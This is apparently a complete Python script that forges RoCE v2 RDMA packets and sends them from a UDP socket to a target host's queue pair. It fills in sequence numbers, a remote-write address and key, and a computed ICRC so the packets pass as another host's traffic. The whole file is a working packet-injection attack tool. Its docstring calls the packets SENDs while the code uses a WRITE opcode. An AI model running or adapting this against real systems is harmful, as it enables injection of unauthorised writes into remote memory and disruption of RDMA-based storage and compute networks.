"""Sends forged RoCE v2 packets from an ordinary UDP socket: forge.py FROM TO QUEUE_PAIR PACKET_NUMBER HOW_MANY

Each is a SEND of the reliable service with the next packet number and a right checksum, as another host's queue pair would send
it. What a queue pair does with it (takes it as a message, or fails) does not matter here: that it gets there does.
"""

import socket
import struct
import sys
import zlib

ROCE = 4791
WRITE_ONLY = 0x0A


def packet(source, target, port, pair, number):
    """Headers and payload after the UDP header, with the checksum (ICRC) over what routers leave alone."""
    # Base header: opcode, flags, partition, queue pair, answer wanted, packet number. Then address, key and length of a WRITE.
    base = struct.pack(">BBHII", WRITE_ONLY, 0x40, 0xFFFF, pair, 0x80000000 | number)
    rest = struct.pack(">QII", 0x1000, 0x12345678, 8) + b"forged!!"
    length = 8 + len(base) + len(rest) + 4
    ip = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(source), socket.inet_aton(target)
    )
    udp = struct.pack(">HHHH", port, ROCE, length, 0xFFFF)
    masked = base[:4] + b"\xff" + base[5:]
    checksum = zlib.crc32(b"\xff" * 8 + ip + udp + masked + rest)
    return base + rest + struct.pack("<I", checksum)


def main():
    source, target = sys.argv[1:3]
    pair, number, count = map(int, sys.argv[3:6])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        # Not fragmented and not connected: then the packet's id, which the checksum covers, is 0.
        sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO
        sender.bind((source, 0))
        port = sender.getsockname()[1]
        sent = refused = 0
        for step in range(count):
            try:
                sender.sendto(packet(source, target, port, pair, (number + step) & 0xFFFFFF), (target, ROCE))
                sent += 1
            except PermissionError:
                refused += 1
        print(f"queue pair {pair}: {sent} forged packets sent, {refused} refused")


main()
